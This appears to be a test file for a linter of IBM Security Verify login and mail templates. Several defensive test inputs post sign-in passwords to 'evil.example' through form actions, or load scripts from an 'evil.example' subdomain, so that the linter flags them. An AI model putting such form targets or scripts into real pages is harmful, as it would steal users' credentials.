import assert from 'node:assert/strict'
import { readdirSync, readFileSync } from 'node:fs'
import { join } from 'node:path'
import { describe, test } from 'node:test'
import { exampleMail, examplePage, MAIL, PAGE, SIGN_IN_PAGE } from '../../src/lint/example.ts'
import { type Contents, type Finding, LintedMaster, Linter, type LintSettings } from '../../src/lint/lint.ts'

const folder = (path: string): Contents =>
  new Map(
    readdirSync(path, { recursive: true, withFileTypes: true })
      .filter(entry => entry.isFile())
      .map(entry => join(entry.parentPath, entry.name))
      .map(file => [file.slice(path.length + 1), { bytes: readFileSync(file) }]),
  )

const master = new LintedMaster(folder('master/templates'))

const found = (files: Readonly<Record<string, string>>, settings?: LintSettings) =>
  new Linter(
    new Map(Object.entries(files).map(([path, text]) => [path, { bytes: Buffer.from(text) }])),
    master,
    settings,
  ).findings()

/** The findings of a rule, as `severity file:line`. */
const told = (findings: readonly Finding[], rule: string) =>
  findings
    .filter(one => one.rule === rule)
    .map(({ severity, file, start }) => `${severity} ${file.split('/').at(-1)}:${start.line}`)

const REGISTRATION = 'user_flows/registration/default/registration.html'
const LABELS = 'common/labels/default/template_labels.properties'
const HEADER = 'common/page_components/default/page_header.html'
const FOOTER = 'common/page_components/default/page_footer.html'
const CODE_PAGE = 'authentication/mfa/totp/default/time_based_otp_submit.html'
const RECOVERY =
  'authentication/login/cloud_directory/password/forgot_password/default/password_recovery_email.xml'

const signIn = (attributes: string, more = '') =>
  examplePage(`<p>@ERROR_MESSAGE@</p>
<form method="post" ${attributes}>
<label>$LOGIN_USER_NAME$ <input name="username" autocomplete="username"></label>
<label>$LOGIN_PASSWORD$ <input type="password" name="password" autocomplete="current-password"></label>
<button>$LOGIN_BUTTON$</button>${more}
</form>`)

describe('scripts of others', () => {
  const script = (attributes: string) =>
    examplePage('<p>$PRODUCT_NAME$</p>', `<script ${attributes}></script>\n`)
  const CDN = 'defer src="https://cdn.example/brand.js"'
  const MANAGER = 'defer src="https://www.googletagmanager.com/gtm.js?id=GTM-ABCD123"'
  const scripts = (files: Record<string, string>, settings?: LintSettings) =>
    told(found(files, settings), 'remote/script')

  test('are a warning where their content is fixed by a hash', () => {
    assert.deepEqual(scripts({ [PAGE]: script(`${CDN} integrity="sha384-abc"`) }), [
      'warning logout_success.html:7',
    ])
  })

  test('are no mistake where their origin is allowed, and only that origin', () => {
    const settings = { allowed: { scriptOrigins: ['https://cdn.example'] } }
    assert.deepEqual(scripts({ [PAGE]: script(CDN) }, settings), [])
    assert.deepEqual(scripts({ [PAGE]: script(CDN.replace('cdn', 'cdn2')) }, settings), [
      'error logout_success.html:7',
    ])
  })

  test('are found in a label, in an import and in addresses that only browsers understand', () => {
    const labels = '$LOGOUT_OK_SIGNOUT_SUCCESSFUL$=Done <script src=//cdn.example/x.js></script>\n'
    const page = examplePage('<p>$LOGOUT_OK_SIGNOUT_SUCCESSFUL$</p>')
    assert.deepEqual(scripts({ [LABELS]: labels, [PAGE]: page }), ['error template_labels.properties:1'])
    const module = '<script type="module">import "https://cdn.example/x.js"</script>'
    assert.deepEqual(scripts({ [PAGE]: examplePage(module) }), ['error logout_success.html:1'])
    assert.deepEqual(scripts({ [PAGE]: script('src="\\\\cdn.example/x.js"') }), [
      'error logout_success.html:7',
    ])
  })

  test('are those of the service where they begin with its address', () => {
    for (const host of ['@TENANT_URL@', 'https://@TENANT@', ''])
      assert.deepEqual(scripts({ [PAGE]: script(`defer src="${host}/usc/js/ieCheck.js"`) }), [])
    assert.deepEqual(scripts({ [PAGE]: script('defer src="https://@TENANT@.evil.example/x.js"') }), [
      'error logout_success.html:7',
    ])
  })

  test('of a tag manager stand on the registration page where analytics are switched on, and nowhere else', () => {
    const page = examplePage('@REGISTRATION_FORM@', `<script ${MANAGER}></script>\n`)
    const settings = { allowed: { scriptOrigins: [], tagManager: true } }
    assert.deepEqual(scripts({ [REGISTRATION]: page }), ['error registration.html:7'])
    assert.deepEqual(scripts({ [REGISTRATION]: page }, settings), [])
    assert.deepEqual(scripts({ [PAGE]: script(MANAGER) }, settings), ['error logout_success.html:7'])
    const inline = examplePage(
      '<script>load("https://www.googletagmanager.com/gtm.js?id=GTM-ABCD123")</script>',
    )
    assert.deepEqual(scripts({ [PAGE]: inline }, settings), ['error logout_success.html:9'])
    assert.deepEqual(
      scripts({ [REGISTRATION]: inline.replace('</script>', '</script>@REGISTRATION_FORM@') }, settings),
      [],
    )
  })

  test('never run on pages about an account, which is a warning', () => {
    const page = 'authentication/logout/default/logout_confirm.html'
    const findings = found({ [page]: examplePage('<script>console.info(1)</script>') })
    assert.deepEqual(told(findings, 'csp/inline-script'), ['warning logout_confirm.html:9'])
  })
})

describe('forms', () => {
  const actions = (attributes: string, more = '') =>
    told(found({ [SIGN_IN_PAGE]: signIn(attributes, more) }), 'form/external-action')

  test('may have the address of the service in every way that themes write it, or none', () => {
    for (const action of [
      '@ACTION@',
      '@ACTION@&amp;themeId=@THEME_ID@',
      '@TENANT_URL@@ACTION@',
      'https://@TENANT@@ACTION@',
    ])
      assert.deepEqual(actions(`action="${action}"`), [])
    assert.deepEqual(actions(''), [])
  })

  test('must not be sent elsewhere, by a button or by a control outside of them either', () => {
    assert.deepEqual(actions('action="//evil.example/x"'), ['error cloud_directory_login.html:10'])
    assert.deepEqual(
      actions('action="@ACTION@"', '<button formaction="https://evil.example/x">$LOGIN_BUTTON$</button>'),
      ['error cloud_directory_login.html:13'],
    )
    const apart = examplePage(`<form id="f" method="post" action="https://evil.example/x"></form>
<label>$LOGIN_PASSWORD$ <input form="f" type="password" autocomplete="current-password"></label>`)
    assert.deepEqual(told(found({ [PAGE]: apart }), 'form/external-action'), ['error logout_success.html:9'])
  })

  test('that ask for nothing secret may be sent anywhere', () => {
    const search = examplePage(
      `<form action="https://www.example.com/"><label>$PRODUCT_NAME$ <input name="q"></label></form>`,
    )
    assert.deepEqual(found({ [PAGE]: search }), [])
  })

  test('that lack a part name the page, the state and the language', () => {
    const silent = signIn('action="@ACTION@"').replace('<p>@ERROR_MESSAGE@</p>', '')
    const [finding, ...more] = found({
      [SIGN_IN_PAGE]: signIn('action="@ACTION@"'),
      [SIGN_IN_PAGE.replace('/default/', '/de/')]: silent,
    })
    assert.deepEqual(more, [])
    assert.equal(finding?.rule, 'macro/required')
    assert.deepEqual(finding.pages, ['login'])
    assert.deepEqual(finding.locales, ['de'])
    assert.deepEqual(finding.states, ['wrong', 'locked'])
    const [everywhere] = found({ [SIGN_IN_PAGE]: silent.replace(/<input name="username"[^>]*>/, '') })
    assert.equal(everywhere?.states, undefined)
  })

  test('are finished by scripts of the service where they load them', () => {
    const page = examplePage(`<p>@ERROR_MESSAGE@</p>
<form id="combined-form" method="post" action=""><input name="otp"><button>$OTP_LOGIN_SUBMIT$</button></form>
<form method="post" action="@ACTION@"><button name="operation" value="restart">$USE_ANOTHER_METHOD$</button></form>
<script src="/authsvc/mtfim/sps/static/totp_login.js"></script>`)
    assert.deepEqual(found({ [CODE_PAGE]: page }), [])
  })
})

describe('markup', () => {
  const syntax = (files: Record<string, string>) => told(found(files), 'html/syntax')

  test('of header and footer is read together with the page', () => {
    const page = examplePage('@PAGE_HEADER@<p>$PRODUCT_NAME$</p>@PAGE_FOOTER@')
    assert.deepEqual(syntax({ [HEADER]: '<div>\n', [FOOTER]: '</div>\n', [PAGE]: page }), [])
    assert.deepEqual(syntax({ [HEADER]: '<div>\n' }), ['error page_header.html:1'])
    const twice = found({
      [HEADER]: '<p id="top">$PRODUCT_NAME$</p>\n',
      [PAGE]: page.replace('<p>', '<p id="top">'),
    })
    assert.deepEqual(told(twice, 'html/duplicate-id'), ['warning logout_success.html:9'])
  })

  test('may leave out the end tags that HTML lets be left out', () => {
    const page = examplePage(`<p>$PRODUCT_NAME$
<ul><li>$PRODUCT_NAME$<li>$PRODUCT_NAME$</ul>
<table><tr><td>$PRODUCT_NAME$<td>$PRODUCT_NAME$</table>
<svg width="1" height="1" viewBox="0 0 1 1" aria-hidden="true"><path d="M0 0"/></svg>`)
    assert.deepEqual(syntax({ [PAGE]: page }), [])
  })

  test('that is wrongly nested is told once, and an end tag too many is a warning', () => {
    assert.deepEqual(syntax({ [PAGE]: examplePage('<b><i>$PRODUCT_NAME$</b></i>') }), [
      'error logout_success.html:9',
    ])
    assert.deepEqual(syntax({ [PAGE]: examplePage('<p>$PRODUCT_NAME$</p></div>') }), [
      'warning logout_success.html:9',
    ])
  })

  test('between curly quotes is an error', () => {
    const link = '<link rel=“stylesheet” href=“/template/v1.0/static/theme.css?themeId=@THEME_ID@”>\n'
    assert.deepEqual(syntax({ [PAGE]: examplePage('<p>$PRODUCT_NAME$</p>', link) }), [
      'error logout_success.html:7',
      'error logout_success.html:7',
    ])
  })

  test('over a limit of the service is an error', () => {
    const deep = examplePage(`${'<div>'.repeat(600)}${'</div>'.repeat(600)}`)
    assert.match(found({ [PAGE]: deep })[0]!.message, /nested too deeply/)
  })

  test('in the folder of a language may name that language', () => {
    const german = examplePage('<p>$PRODUCT_NAME$</p>').replace('@LANG@', 'de')
    const english = examplePage('<p>$PRODUCT_NAME$</p>')
    assert.deepEqual(found({ [PAGE]: english, [PAGE.replace('/default/', '/de/')]: german }), [])
    assert.deepEqual(told(found({ [PAGE.replace('/default/', '/fr/')]: german }), 'html/lang'), [
      'warning logout_success.html:2',
    ])
  })

  test('with an address that does nothing is a warning', () => {
    const link = examplePage('<a href="javascript:void(0)">$PRODUCT_NAME$</a>')
    assert.deepEqual(told(found({ [PAGE]: link }), 'csp/javascript-url'), ['warning logout_success.html:9'])
  })
})

describe('mails', () => {
  const needed = (path: string, message: string) =>
    told(found({ [path]: exampleMail(message) }), 'mail/required-macro')

  test('must show their code where people see it', () => {
    const lacking = ['error otp_delivery_email.xml:1']
    for (const message of ['<!-- @OTP@ -->', '<p hidden>@OTP@</p>', '<p title="@OTP@">$PRODUCT_NAME$</p>'])
      assert.deepEqual(needed(MAIL, `<p>$PRODUCT_NAME$</p>${message}`), lacking)
    assert.deepEqual(needed(MAIL, '<p><b>@OTP@</b></p>'), [])
  })

  test('may have their link as an address or as a text', () => {
    assert.deepEqual(needed(RECOVERY, '<a href="@PASSWORD_RECOVERY_LINK@">$PRODUCT_NAME$</a>'), [])
    assert.deepEqual(needed(RECOVERY, '<p>@PASSWORD_RECOVERY_LINK@</p>'), [])
    assert.deepEqual(needed(RECOVERY, '<p>$PRODUCT_NAME$</p>'), ['error password_recovery_email.xml:1'])
  })

  test('name the language in which their code is missing', () => {
    const [finding] = found({ [MAIL.replace('/default/', '/fr/')]: exampleMail('<p>$EMAIL_OTP_INTRO$</p>') })
    assert.deepEqual(finding?.locales, ['fr'])
    assert.deepEqual(finding.pages, ['mail-one-time-code'])
  })

  test('take addresses with a scheme, or macros that are whole addresses', () => {
    const links = (href: string) =>
      told(
        found({ [MAIL]: exampleMail(`<p>@OTP@</p><a href="${href}">$PRODUCT_NAME$</a>`) }),
        'mail/relative-url',
      )
    for (const href of ['mailto:help@harbour.example', 'https://@TENANT@/x', '@TENANT_URL@/x', '#top'])
      assert.deepEqual(links(href), [])
    for (const href of ['@TENANT@/x', 'help.html', '//www.example.com/'])
      assert.deepEqual(links(href), ['error otp_delivery_email.xml:6'])
  })

  test('without a subject of their own in a pair of files are an error', () => {
    const base = 'notifications/user_management/registration/default'
    const findings = found({ [`${base}/verify_email_subject.txt`]: ' \n' })
    assert.deepEqual(told(findings, 'mail/subject-empty'), ['error verify_email_subject.txt:1'])
  })
})

describe('packages made for IBM Security Verify', () => {
  // Each of these findings was judged by hand: none is false.
  const expected: Record<string, Record<string, number>> = {
    'field-package': {
      'csp/inline-handler': 4,
      'csp/inline-style': 3,
      'csp/javascript-url': 1,
      'form/autocomplete': 2,
      'form/label': 1,
      'html/lang': 1,
      'html/syntax': 20,
      'remote/asset': 3,
    },
    'field-scripts-package': {
      'a11y/heading-order': 9,
      'csp/inline-handler': 10,
      'csp/inline-style': 2,
      'csp/javascript-url': 3,
      'form/autocomplete': 10,
      'html/lang': 15,
      'remote/parser-blocking': 2,
    },
  }

  for (const [name, counts] of Object.entries(expected))
    test(`of ${name} have the mistakes that they have, and no others`, () => {
      const findings = new Linter(folder(`test/fixtures/${name}/templates`), master)
        .findings()
        .filter(({ rule }) => /^(?:html|form|a11y|id|csp|remote|security|analytics|mail)\//.test(rule))
      const groups = Object.groupBy(findings, ({ rule }) => rule)
      assert.deepEqual(
        Object.fromEntries(
          Object.entries(groups)
            .map(([rule, all]) => [rule, all!.length])
            .sort(),
        ),
        counts,
      )
    })
})
